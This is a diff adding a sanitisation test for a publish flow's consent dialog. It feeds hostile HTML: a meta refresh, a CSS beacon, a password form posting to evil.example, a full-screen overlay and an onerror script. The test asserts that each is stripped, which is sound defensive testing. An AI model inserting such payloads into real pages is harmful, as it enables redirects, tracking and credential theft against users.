@@ -131,3 +131,27 @@ describe('Publish flow, approvals path (spec §4 step 4)', () => {
     expect(await screen.findByText('Profile Published')).toBeInTheDocument();
   });
 });
+
+describe('Publish flow, consent step', () => {
+  it('shows the consent text as sanitised rich text: no meta refresh, style beacon, overlay or form reaches the hub', async () => {
+    const hostile = [
+      '<p><strong>I agree</strong> to the <a href="https://acme.example/terms">terms</a>.</p>',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+      '<style>body{background:url(https://evil.example/beacon)}</style>',
+      '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
+      '<form action="https://evil.example"><input name="password"></form>',
+      '<img src=x onerror="window.__pwned=1">',
+    ].join('');
+    const v = view({ canManage: true, needsApproval: false, pendingApprovalId: null });
+    v.content = { ...v.content, enableConsent: true, consentText: hostile };
+    renderEditor(v, {});
+    await userEvent.click(screen.getByRole('button', { name: 'Publish' }));
+    const dialog = await screen.findByRole('dialog', { name: 'Disclaimer' });
+    expect(dialog.querySelector('strong')?.textContent).toBe('I agree');
+    expect(dialog.querySelector('a')?.getAttribute('href')).toBe('https://acme.example/terms');
+    for (const tag of ['meta', 'style', 'form', 'input']) expect(dialog.querySelector(tag), tag).toBeNull();
+    expect(dialog.innerHTML).not.toContain('onerror');
+    expect(dialog.innerHTML).not.toContain('position:fixed');
+    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
+  });
+});
